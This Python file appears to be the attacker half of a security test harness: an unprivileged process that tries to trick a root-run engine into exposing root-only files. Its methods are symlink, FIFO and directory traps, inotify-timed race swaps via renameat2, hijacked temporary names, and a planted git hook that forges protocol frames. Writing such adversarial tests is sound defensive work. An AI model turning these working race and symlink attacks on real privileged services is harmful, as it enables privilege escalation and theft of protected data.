"""The attacker: a process of an unprivileged user, beside an engine that runs as root on the same host.

    python attack.py UID

It imports all that it needs, stops being root, and then obeys its standard input, line by line:
    {"trap": NAME, "home": DIR, "path": PATH, "vault": DIR, "root": DIR}
            lays the trap and answers `ready`; from then on it attacks without a pause
    end     stops, and answers with a list, in JSON, of what it could read and should not have been able to

What is its own to do it may do: all below `home` that belongs to it. `vault` is root's, with `file` and with `dir`,
which holds the same names as the first directory below `home`: whoever is led there finds what was expected. `root`
is the home directory of the engine. Everything made here has `mallory` in its name.
"""

# ruff: noqa: S311, S103  # chance decides when he strikes, and what he makes is open to everybody on purpose

from __future__ import annotations

import ctypes
import hashlib
import json
import os
import random
import re
import select
import stat
import struct
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD, RENAME_EXCHANGE = -100, 2
IN_MOVED_FROM, IN_CREATE, IN_DELETE, IN_NONBLOCK = 0x40, 0x100, 0x200, 0o4000
SECRET = b"-SECRET-"
"""What is in every content that only root may read."""
GONE = "gone name: link"
FORGED = "forged by mallory"
DELAYS = (0, 0, 0, 0.0003, 0.001, 0.003)
"""Seconds between seeing a new name and acting: what comes after the name was made takes its time, too."""


class Attacker:
    """One round: where everything is, and what the attack holds between two turns."""

    def __init__(self, home: str, path: str, vault: str, root: str, trap: str) -> None:
        self.home, self.path, self.vault, self.root, self.trap = home, path, vault, root, trap
        self.top = os.path.join(home, os.path.relpath(path, home).split("/")[0])
        self.made = 0
        self.own: set[int] = set()
        self.held: list[int] = []
        self.loot = b""
        self.watch: Watch | None = None

    def mirror(self, path: str) -> str:
        """What is in the vault in place of `path`, which is below `top`."""
        return os.path.normpath(os.path.join(self.vault, "dir", os.path.relpath(path, self.top)))

    def spare(self, beside: str) -> str:
        """A name not used yet, in the same directory."""
        self.made += 1
        return os.path.join(os.path.dirname(beside), f"mallory-{self.made}")

    def away(self, path: str) -> None:
        """Nothing is at `path` any more, if something was."""
        if os.path.lexists(path):
            os.rename(path, self.spare(path))

    def link(self, target: str, path: str) -> None:
        self.away(path)
        os.symlink(target, path)

    # --- traps that lie there from the beginning ----------------------------------------------------------------

    def above(self) -> list[str]:
        """The directories that are there above `path`, down from home, the nearest first."""
        found = [self.path]
        while found[-1] != self.top:
            found.append(os.path.dirname(found[-1]))
        return [place for place in found[1:] if os.path.isdir(place)]

    def link_above(self) -> None:
        above = self.above()[0]
        self.link(self.mirror(above), above)

    def link_to_file(self) -> None:
        self.link(f"{self.vault}/file", self.path)

    def link_to_directory(self) -> None:
        mirror = self.mirror(self.path)
        self.link(mirror if os.path.isdir(mirror) else f"{self.vault}/dir", self.path)

    def dangling_link(self) -> None:
        self.link(f"{self.vault}/nothing", self.path)

    def links_within(self) -> None:
        for name in os.listdir(self.path):
            self.link(f"{self.mirror(self.path)}/{name}", f"{self.path}/{name}")

    def fifo(self) -> None:
        self.away(self.path)
        os.mkfifo(self.path)

    def directory(self) -> None:
        self.away(self.path)
        os.mkdir(self.path)
        self.write(f"{self.path}/mallory")

    def backup_links(self) -> None:
        self.link(f"{self.vault}/file", f"{self.path}.bak")
        self.link(f"{self.vault}/dir", f"{self.path}.bak.2")

    def backup_into_directory(self) -> None:
        self.write(f"{self.path}.bak.2")
        self.link(f"{self.vault}/dir", f"{self.path}.bak.3")

    def backup_fifo(self) -> None:
        self.away(f"{self.path}.bak")
        os.mkfifo(f"{self.path}.bak")

    def temporary(self) -> str:
        """The name beside `path` under which something may be made for it, which can be guessed."""
        return f"{self.above()[0]}/.engine-{hashlib.sha256(self.path.encode()).hexdigest()[:16]}"

    def full_temporary(self) -> None:
        os.mkdir(self.temporary())
        self.write(f"{self.temporary()}/mallory")

    def sibling(self) -> None:
        """A directory of root's in one that both can write is where something of the engine's would be."""
        os.rename(f"{self.above()[0]}/data", self.temporary())

    def sibling_as_git(self) -> None:
        """In a directory that both can write there is one of somebody else's alone, called as a repository is."""
        os.rename(f"{self.path}/data", f"{self.path}/.git")
        for name in os.listdir(self.path):
            if name != ".git":
                os.rename(f"{self.path}/{name}", self.spare(self.home + "/-"))

    def own_git(self) -> None:
        """What looks like a repository whose removal was cut off."""
        os.mkdir(f"{self.path}/.git")
        self.write(f"{self.path}/.git/engine-removing")

    def write(self, path: str, text: str = "mallory was here\n", mode: int = 0o666) -> None:
        with open(path, "w") as file:
            file.write(text)
        os.chmod(path, mode)

    # --- whoever makes a name finds something else under it ------------------------------------------------------

    def watching(self) -> None:
        self.watch = Watch()
        for place, _, _ in os.walk(self.home):
            self.watch.add(place)

    def on_names(self) -> None:
        """Everything that appears below home and is not ours is replaced; or where something disappears, there is a
        link at once."""
        assert self.watch is not None
        for place, name, what in self.watch.events():
            path = f"{place}/{name}"
            # What git does as himself in his own repository gains him nothing.
            if "mallory" in name or "/.git/" in path:
                continue
            with suppress(OSError):
                if self.trap == GONE:
                    if not what & IN_CREATE:
                        os.symlink(f"{self.vault}/file", path)
                elif what & IN_CREATE:
                    self.replace(path)
        self.drain()

    def replace(self, path: str) -> None:
        info = os.lstat(path)
        directory = stat.S_ISDIR(info.st_mode)
        if info.st_ino in self.own or (info.st_uid == os.getuid() and not directory):
            return
        time.sleep(random.choice(DELAYS))
        new = self.spare(path)
        REPLACEMENTS[self.trap](self, new, directory)
        self.own.add(os.lstat(new).st_ino)
        exchange(new, path)
        if directory and self.watch is not None:
            self.watch.add(path if os.path.isdir(path) and not os.path.islink(path) else new)

    def new_link(self, new: str, directory: bool) -> None:
        os.symlink(f"{self.vault}/dir" if directory else f"{self.vault}/file", new)

    def new_file(self, new: str, directory: bool) -> None:
        """An own file or directory that everybody may write, and that stays open."""
        if directory:
            os.mkdir(new)
            os.chmod(new, 0o777)
        else:
            self.held.append(os.open(new, os.O_RDWR | os.O_CREAT, 0o666))
            os.fchmod(self.held[-1], 0o666)

    def new_fifo(self, new: str, directory: bool) -> None:
        os.mkfifo(new, 0o666)
        self.held.append(os.open(new, os.O_RDWR | os.O_NONBLOCK))

    def new_directory(self, new: str, directory: bool) -> None:
        """An own directory in which all that is likely to be looked for leads into the vault."""
        os.mkdir(new)
        for name in ("content", "file", "a", "sub", ".git", "files"):
            os.symlink(f"{self.vault}/{'dir' if name in ('sub', '.git') else 'file'}", f"{new}/{name}")
        os.unlink(f"{new}/files")
        os.mkdir(f"{new}/files")
        os.symlink(f"{self.vault}/file", f"{new}/files/content")
        os.symlink(f"{self.vault}/file", f"{new}/files/a")
        self.own |= {os.lstat(f"{new}/{name}").st_ino for name in os.listdir(new)}

    def drain(self) -> None:
        for held in self.held:
            with suppress(OSError):
                if stat.S_ISFIFO(os.fstat(held).st_mode):
                    self.loot += os.read(held, 1 << 16)

    # --- one name leads here and there in turn ------------------------------------------------------------------

    def swapping(self, path: str, target: str) -> None:
        """Beside `path` there is a link, which takes turns with it."""
        self.one, self.other = path, self.spare(path)
        os.symlink(target, self.other)

    def swap_above(self) -> None:
        above = random.choice(self.above())
        self.swapping(above, self.mirror(above))

    def swap_to_file(self) -> None:
        self.swapping(self.path, f"{self.vault}/file")

    def swap_to_directory(self) -> None:
        mirror = self.mirror(self.path)
        self.swapping(self.path, mirror if os.path.isdir(mirror) else f"{self.vault}/dir")

    def on_turn(self) -> None:
        for _ in range(random.choice((1, 2, 5, 50))):
            with suppress(OSError):
                if os.path.lexists(self.one):
                    exchange(self.one, self.other)
                else:
                    os.rename(self.other, self.one)
            time.sleep(random.choice((0, 0, 0, 0.0002, 0.001)))

    # --- what a hook inherits -----------------------------------------------------------------------------------

    def forging(self) -> None:
        """A hook that writes a frame to whatever is open, once the word that frames begin with is known."""
        self.nonce = f"{self.home}/mallory.nonce"
        body = rf"""#!/bin/sh
for n in 1 2 3 4 5 6 7 8 9 10; do [ -s {self.nonce} ] || sleep 0.02; done
read -r nonce <{self.nonce} || exit 0
for fd in 3 4 5 6 7 8 9; do
  {{ printf '\n#%s error\n{FORGED}\n#%s .\n' "$nonce" "$nonce" >&$fd; }} 2>/dev/null
done
exit 0
"""
        self.write(f"{self.path}/.git/hooks/post-checkout", body, 0o755)

    def on_processes(self) -> None:
        """The nonce, from the command line of whatever names the lock's files. The newest process is in loadavg."""
        with open("/proc/loadavg", "rb") as file:
            newest = int(file.read().split()[-1])
        for number in range(newest - 3, newest + 2):
            with suppress(OSError):
                line = content(f"/proc/{number}/cmdline")
                found = re.search(rb"lock\.([0-9a-f]{8,})\.", line) if self.root.encode() in line else None
                if found:
                    self.write(self.nonce, found[1].decode() + "\n")

    # --- what was gained ----------------------------------------------------------------------------------------

    def reads(self) -> list[str]:
        """Where a content can be read that only root may read."""
        self.drain()
        found = ["a fifo"] if SECRET in self.loot else []
        for held in self.held:
            with suppress(OSError):
                if SECRET in os.pread(held, 1 << 20, 0):
                    found.append("a file that was swapped in")
            os.close(held)
        if self.watch is not None:
            os.close(self.watch.fd)
        for start in (self.home, self.vault):
            for place, _, names in os.walk(start):
                found += [f"{place}/{name}" for name in names if SECRET in content(f"{place}/{name}")]
        return found


class Watch:
    """Inotify over directories: which names appear and disappear."""

    def __init__(self) -> None:
        self.fd = LIBC.inotify_init1(IN_NONBLOCK)
        self.places: dict[int, str] = {}

    def add(self, place: str) -> None:
        number = LIBC.inotify_add_watch(self.fd, place.encode(), IN_MOVED_FROM | IN_CREATE | IN_DELETE)
        if number >= 0:
            self.places[number] = place

    def events(self) -> Iterator[tuple[str, str, int]]:
        """Directory, name and event, of all that came; waits a moment for the first."""
        select.select([self.fd, sys.stdin], [], [], 0.2)
        try:
            data = os.read(self.fd, 1 << 16)
        except BlockingIOError:
            return
        while data:
            number, what, _, length = struct.unpack_from("iIII", data)
            yield self.places[number], data[16 : 16 + length].rstrip(b"\0").decode(), what
            data = data[16 + length :]


def exchange(one: str, other: str) -> None:
    """Two names change places, at one moment."""
    if LIBC.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE):
        raise OSError(ctypes.get_errno(), one)


def content(path: str) -> bytes:
    """What can be read of a file, and nothing of what is none."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NOFOLLOW | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(fd, 1 << 20) if stat.S_ISREG(os.fstat(fd).st_mode) else b""
    finally:
        os.close(fd)


Move = Callable[[Attacker], None]


def sibling_at(attacker: Attacker, new: str, directory: bool) -> None:
    """A directory of root's takes the place of one that is new."""
    data = os.path.join(os.path.dirname(new), "data")
    if not directory or not os.path.isdir(data):
        raise OSError
    os.rename(data, new)


REPLACEMENTS: dict[str, Callable[[Attacker, str, bool], None]] = {
    "new name: link": Attacker.new_link,
    "new name: own file": Attacker.new_file,
    "new name: fifo": Attacker.new_fifo,
    "new name: directory": Attacker.new_directory,
    "new name: sibling": sibling_at,
}
STATIC: dict[str, Move] = {
    "link above": Attacker.link_above,
    "link to file": Attacker.link_to_file,
    "link to directory": Attacker.link_to_directory,
    "dangling link": Attacker.dangling_link,
    "links within": Attacker.links_within,
    "fifo": Attacker.fifo,
    "directory": Attacker.directory,
    "hard link": lambda _: None,
    "nothing": lambda _: None,
    "backup links": Attacker.backup_links,
    "backup into directory": Attacker.backup_into_directory,
    "backup fifo": Attacker.backup_fifo,
    "full temporary directory": Attacker.full_temporary,
    "sibling": Attacker.sibling,
    "sibling as .git": Attacker.sibling_as_git,
    "own .git": Attacker.own_git,
}
"""Traps that are laid before; a kernel that lets users make hard links to others' files is played by root."""
RACES: dict[str, tuple[Move, Move]] = {
    **dict.fromkeys((*REPLACEMENTS, GONE), (Attacker.watching, Attacker.on_names)),
    "swap above": (Attacker.swap_above, Attacker.on_turn),
    "swap to file": (Attacker.swap_to_file, Attacker.on_turn),
    "swap to directory": (Attacker.swap_to_directory, Attacker.on_turn),
    "forged frames": (Attacker.forging, Attacker.on_processes),
}
"""Traps that work beside the engine: what they begin with, and one turn of what they go on with."""


def main() -> None:
    """Obey until standard input ends."""
    uid = int(sys.argv[1])
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    os.umask(0o022)
    while about := sys.stdin.readline():
        attacker = Attacker(**json.loads(about))
        begin, turn = RACES.get(attacker.trap) or (STATIC[attacker.trap], None)
        # What he is not allowed to do, or comes too late for, is no reason to give up.
        with suppress(OSError):
            begin(attacker)
        print("ready", flush=True)
        while turn is not None and not select.select([sys.stdin], [], [], 0)[0]:
            with suppress(OSError):
                turn(attacker)
        sys.stdin.readline()
        print(json.dumps(attacker.reads()), flush=True)


if __name__ == "__main__":
    main()
